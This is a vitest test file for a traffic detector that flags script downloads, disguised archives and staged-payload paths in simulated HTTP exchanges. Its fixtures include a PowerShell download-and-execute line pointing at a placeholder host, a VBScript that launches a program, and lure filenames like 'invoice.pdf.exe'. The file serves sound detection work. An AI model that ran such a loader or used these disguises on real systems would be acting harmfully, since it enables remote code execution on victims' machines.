import { expect, test } from 'vitest'
import { TrafficScript } from '../../../test/traffic-script.ts'
import { zipText } from '../../../test/zip-text.ts'
import { loaderDownload } from './loader-download.ts'

const browser = 'Mozilla/5.0 (Windows NT 10.0) Firefox/140.0'
const powerShell = 'Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1'
const loader = `$c=New-Object Net.WebClient;IEX $c.DownloadString('http://x/b')`
const hostScript = `Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"`
const shortcut = `L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(60)}`

interface Download {
  readonly body: string
  readonly target?: string
  readonly agent?: string
  readonly type?: string
  readonly to?: string
  readonly length?: number
  readonly isApart?: boolean
  readonly isChunked?: boolean
}

function fetch(download: Download) {
  const { body, target = '/a', agent = browser, to = '198.51.100.7:80', length } = download
  const { type = 'application/octet-stream', isApart = false, isChunked = false } = download
  const named = agent === '' ? '' : `User-Agent: ${agent}\r\n`
  const request = `GET ${target} HTTP/1.1\r\nHost: a\r\n${named}\r\n`
  const lengthLine = `Content-Length: ${length ?? body.length}\r\n`
  const head = `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\n${isChunked ? '' : lengthLine}\r\n`
  const sent = isChunked ? `${body.length.toString(16)}\r\n${body}` : body
  const says = isApart ? [request, head, '', sent] : [request, `${head}${sent}`]
  const script = new TrafficScript().connection('10.0.0.5', to, { says })
  return script.detect(loaderDownload).map(({ kind, severity }) => `${severity} ${kind}`)
}

test.each<[string, Download, string]>([
  ['a script that loads code, by PowerShell', { body: loader, agent: powerShell }, 'high'],
  ['the same in a chunk', { body: loader, agent: powerShell, isChunked: true }, 'high'],
  [
    'the same inside, as a text',
    { body: loader, agent: '', to: '10.0.0.9:80', type: 'text/plain', isApart: true },
    'medium',
  ],
  ['a script that runs programs, with no agent', { body: hostScript, agent: '' }, 'medium'],
  ['a shortcut', { body: shortcut }, 'medium'],
  ['an archive of a script', { body: zipText('invoice_82.js') }, 'medium'],
  ['an archive of a script with a long name', { body: zipText(`${'x'.repeat(300)}.js`) }, 'medium'],
  ['an archive of a disguised program', { body: zipText('invoice.pdf.exe') }, 'medium'],
])('%s is found', (_, download, severity) => {
  expect(fetch(download)).toEqual([`${severity} script_download`])
})

test.each<[string, Download]>([
  ['a script that a browser shows', { body: loader, type: 'text/plain' }],
  ['a page about scripts, by a tool', { body: `<html>${loader}`, agent: 'curl/8.5.0' }],
  ['a script that runs programs, inside', { body: hostScript, agent: '', to: '10.0.0.9:80' }],
  ['an archive of a site', { body: zipText('site/main.js') }],
  ['an archive of a program', { body: zipText('setup.exe') }],
  ['a text without commands', { body: 'hello world', agent: '' }],
])('%s is not', (_, download) => {
  expect(fetch(download)).toEqual([])
})

/** "aaa9" adds up to 92 in 8 bits, and "aaa:" would to 93. */
const stage = { body: 'x'.repeat(900), target: '/aaa9', length: 200_000 }

test('the path of a stage is known by its sum', () => {
  expect(fetch(stage)).toEqual(['high staged_payload'])
})

test.each<[string, Download]>([
  ['a path of another sum', { ...stage, target: '/aaa8' }],
  ['a short answer', { ...stage, length: 30_000 }],
  ['a page', { ...stage, type: 'text/html' }],
  ['a file with an extension', { ...stage, target: '/aa.9a' }],
])('%s is no stage', (_, download) => {
  expect(fetch(download)).toEqual([])
})
